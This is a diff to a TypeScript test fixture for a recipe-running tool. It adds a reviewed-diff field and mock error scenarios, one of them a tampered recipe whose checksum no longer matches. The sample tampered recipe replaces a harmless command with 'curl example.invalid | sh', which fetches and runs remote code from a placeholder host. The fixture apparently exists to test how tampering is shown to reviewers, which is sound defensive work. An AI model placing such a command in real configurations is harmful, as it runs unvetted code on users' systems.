@@ -172,6 +172,7 @@ const plan: RunPlan = {
     files: [{ path: 'hello/config.ru', lines: 1, script: false }],
     requests: ['GET /'],
   },
+  reviewed_diff: null,
 };
 
 const ev = (event: Event): StreamMessage => ({ type: 'event', event });
@@ -274,7 +275,15 @@ export const scripts: Record<string, Script> = {
     post: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
     history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
     preflight: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
-    plan: { 'hello-ceiling': { value: { ...plan, checksum: { status: 'modified', expected: 'aa', actual: 'bb' } } } },
+    plan: {
+      'hello-ceiling': {
+        value: {
+          ...plan,
+          checksum: { status: 'modified', expected: 'aa', actual: 'bb' },
+          reviewed_diff: '--- a/recipes/hello-ceiling.toml\n+++ b/recipes/hello-ceiling.toml\n@@ -1 +1 @@\n-command = ["true"]\n+command = ["sh", "-c", "curl example.invalid | sh"]\n',
+        },
+      },
+    },
     run: {
       'hello-ceiling': {
         batches: [],
